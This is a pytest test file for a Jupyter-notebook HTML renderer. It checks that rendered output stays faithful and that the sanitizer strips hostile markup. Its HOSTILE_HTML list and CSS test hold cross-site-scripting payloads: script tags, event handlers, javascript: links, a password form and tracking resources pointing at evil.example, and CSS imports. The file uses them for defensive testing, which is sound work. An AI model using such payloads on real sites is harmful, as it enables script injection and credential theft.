"""The rendered result reads as in JupyterLab (what arrives), and HTML from the notebook stays inert (what
does not). Built from one notebook that holds what teaching notebooks hold."""

from __future__ import annotations

import base64
import struct
import zlib

import nbformat
import pytest
from bs4 import BeautifulSoup

from notebooks.engine.rendering import DOCUMENT_POLICY, clean_fragment, render_html
from tests.notebooks.fidelity import assert_rendered_like_notebook, count_html


def png(width: int = 3, height: int = 2) -> str:
    """A real PNG (red pixels), base64 as a kernel sends it."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    rows = b"".join(b"\x00" + b"\xff\x00\x00" * width for _ in range(height))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    data = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")
    return base64.b64encode(data).decode()


SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20"><rect width="40" height="20" fill="teal"/></svg>'
STYLER = (
    '<style type="text/css">#T_ab_row0_col0 { background-color: #ffe0e0; }</style>'
    '<table id="T_ab"><thead><tr><th class="col_heading">dice</th></tr></thead>'
    '<tbody><tr><td id="T_ab_row0_col0" class="data row0 col0">0.91</td></tr></tbody></table>'
)
MARKDOWN = """# Lesson title

## Background *with* **emphasis** and a [link](https://example.org/docs)

| metric | value |
|---|---:|
| dice | 0.91 |

- first
- second

The loss is $L = -\\sum_i y_i \\log p_i$ and the update is

$$\\theta_{t+1} = \\theta_t - \\eta \\nabla L$$

```python
print("code in markdown")
```

![figure](attachment:figure.png) and ![a file on the runner](README.md)
"""


def teaching_notebook() -> nbformat.NotebookNode:
    nb = nbformat.v4.new_notebook()
    nb.metadata["kernelspec"] = {"name": "go3s-factory", "display_name": "Go3s", "language": "python"}
    nb.metadata["language_info"] = {"name": "python", "pygments_lexer": "ipython3"}
    markdown = nbformat.v4.new_markdown_cell(MARKDOWN)
    markdown["attachments"] = {"figure.png": {"image/png": png()}}
    code = nbformat.v4.new_code_cell(
        "import pandas as pd\ndf = pd.DataFrame({'a': [1]})\ndf",
        execution_count=1,
        outputs=[
            nbformat.v4.new_output("stream", name="stdout", text="epoch 1 loss 0.50\n"),
            nbformat.v4.new_output(
                "execute_result",
                data={
                    "text/html": '<table class="dataframe"><tr><th>a</th></tr><tr><td>1</td></tr></table>',
                    "text/plain": "a 1",
                },
                execution_count=1,
            ),
            nbformat.v4.new_output("display_data", data={"text/html": STYLER, "text/plain": "<Styler>"}),
            nbformat.v4.new_output("display_data", data={"image/png": png(), "text/plain": "<Figure size 640x480>"}),
            nbformat.v4.new_output("display_data", data={"image/jpeg": png(), "text/plain": "<jpeg>"}),
            nbformat.v4.new_output("display_data", data={"image/svg+xml": SVG, "text/plain": "<svg>"}),
            nbformat.v4.new_output("display_data", data={"text/latex": "$$\\frac{1}{n}\\sum_i x_i$$", "text/plain": "mean"}),
            nbformat.v4.new_output("display_data", data={"text/markdown": "**bold** and $x^2$", "text/plain": "md"}),
            nbformat.v4.new_output("stream", name="stderr", text="a warning\n"),
        ],
    )
    failing = nbformat.v4.new_code_cell(
        "1/0",
        execution_count=2,
        outputs=[
            nbformat.v4.new_output(
                "error",
                ename="ZeroDivisionError",
                evalue="division by zero",
                traceback=["\x1b[0;31mZeroDivisionError\x1b[0m: division by zero"],
            )
        ],
    )
    nb.cells = [markdown, code, failing]
    return nb


@pytest.fixture(scope="module")
def rendered() -> tuple[nbformat.NotebookNode, str, BeautifulSoup]:
    nb = teaching_notebook()
    document = render_html(nb)
    return nb, document, BeautifulSoup(document, "html.parser")


def test_everything_a_teaching_notebook_holds_arrives(rendered):
    nb, document, soup = rendered

    counts = assert_rendered_like_notebook(nb, document)

    assert counts.headings == 2 and counts.tables == 3 and counts.images == 3 and counts.math == 4 and counts.errors == 1
    headings = soup.select("div.jp-MarkdownCell h1, div.jp-MarkdownCell h2")
    assert [h.get("id") for h in headings] == ["Lesson-title", "Background-with-emphasis-and-a-link"]
    assert all(h.find("a", class_="anchor-link", href=f"#{h['id']}") for h in headings)
    assert soup.find("em").text == "with" and soup.find("strong").text == "emphasis"
    assert [li.text for li in soup.select("div.jp-MarkdownCell li")] == ["first", "second"]
    table = soup.select_one("div.jp-MarkdownCell table")
    assert [th.text for th in table.select("th")] == ["metric", "value"] and table.select_one("td").text == "dice"


def test_math_is_mathml_made_on_the_server(rendered):
    _, document, soup = rendered
    maths = soup.find_all("math")

    assert [m.get("display") for m in maths] == ["inline", "block", "block", "inline"]
    assert maths[1].find("msub") is not None  # θ_{t+1}
    assert soup.select_one("div[data-mime-type='text/latex'] math mfrac") is not None
    assert "$$" not in soup.select_one("div.jp-MarkdownCell").get_text()
    assert "mathjax" not in document.lower()


def test_figures_are_images_in_the_page(rendered):
    _, _, soup = rendered
    sources = [img["src"] for img in soup.select(".jp-OutputArea-output img")]

    assert [src.split(";")[0] for src in sources] == ["data:image/png", "data:image/jpeg", "data:image/svg+xml"]
    attachment = soup.select_one("div.jp-MarkdownCell img[alt=figure]")
    assert attachment["src"].startswith("data:image/png;base64,")


def test_code_is_highlighted_and_errors_keep_their_colours(rendered):
    _, _, soup = rendered

    assert soup.select_one(".jp-InputArea .highlight span.kn").text == "import"
    assert soup.select_one("div.jp-MarkdownCell .highlight pre span.nb").text == "print"
    assert soup.select_one("span.ansi-red-fg").text == "ZeroDivisionError"


def test_pandas_and_styler_tables_keep_their_markup_and_css(rendered):
    _, _, soup = rendered

    assert soup.select_one("table.dataframe td").text == "1"
    styled = soup.select_one("table#T_ab td#T_ab_row0_col0")
    assert styled.text == "0.91"
    assert any("#T_ab_row0_col0" in style.text for style in soup.select("div[data-mime-type='text/html'] style"))


def test_the_document_carries_its_own_policy_before_any_content(rendered):
    _, document, soup = rendered
    meta = soup.find("meta", attrs={"http-equiv": "Content-Security-Policy"})

    assert meta is not None and meta["content"] == DOCUMENT_POLICY
    assert document.index("Content-Security-Policy") < document.index("<body")
    assert soup.find("script") is None


def test_no_file_of_the_runner_is_read_into_the_page(rendered):
    _, document, soup = rendered
    image = soup.select_one("div.jp-MarkdownCell img[alt='a file on the runner']")

    assert image is not None and image.get("src") is None
    assert "Go3s Community Portal" not in document  # README.md's first line


HOSTILE_HTML = [
    "<script>window.__pwned = 1</script>",
    '<img src="data:image/png;base64,AAAA" onerror="window.__pwned=1">',
    '<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/pwned">',
    '<base href="https://evil.example/">',
    '<svg onload="window.__pwned=1"><script>window.__pwned=1</script></svg>',
    '<iframe src="https://evil.example/"></iframe><object data="x"></object><embed src="x">',
    '<a href="javascript:window.__pwned=1">click</a><a href="data:text/html,pwned">data</a>',
    '<img src="https://evil.example/track.png"><link rel="stylesheet" href="https://evil.example/x.css">',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
]


@pytest.mark.parametrize("payload", HOSTILE_HTML)
def test_hostile_html_loses_what_could_act_and_keeps_its_text(payload):
    cleaned = BeautifulSoup(clean_fragment(payload + "<p>kept</p>"), "html.parser")

    assert (
        cleaned.find(["script", "form", "input", "button", "meta", "base", "svg", "iframe", "object", "embed", "link", "maction"])
        is None
    )
    assert all(not name.lower().startswith("on") for tag in cleaned.find_all(True) for name in tag.attrs)
    for tag in cleaned.find_all(["a", "img"]):
        target = (tag.get("href") or tag.get("src") or "").lower()
        assert not target.startswith(("javascript:", "data:text", "https://evil", "http://evil")), target
    assert cleaned.find("p").text == "kept"


def test_links_to_the_web_open_a_new_tab_and_anchors_stay_in_the_document():
    cleaned = BeautifulSoup(clean_fragment('<a href="https://example.org">web</a><a href="#Section">here</a>'), "html.parser")
    web, anchor = cleaned.find_all("a")

    assert web["target"] == "_blank" and "noopener" in web["rel"]
    assert "target" not in anchor.attrs and anchor["href"] == "#Section"


def test_count_html_sees_no_image_without_a_payload():
    assert count_html('<div class="jp-OutputArea-output"><img src="data:image/png;base64,"></div>').images == 0


def test_css_from_the_notebook_styles_but_loads_nothing():
    cleaned = clean_fragment(
        "<style>@import 'https://evil.example/x.css'; td { background: url(https://evil.example/t.png); color: red }</style>"
        "<p style=\"background-image: url('javascript:alert(1)'); width: expression(alert(1)); color: blue\">x</p>"
    )

    assert "@import" not in cleaned and "evil.example" not in cleaned and "javascript" not in cleaned
    assert "expression(" not in cleaned
    assert "color: red" in cleaned and "color: blue" in cleaned  # the styling itself stays
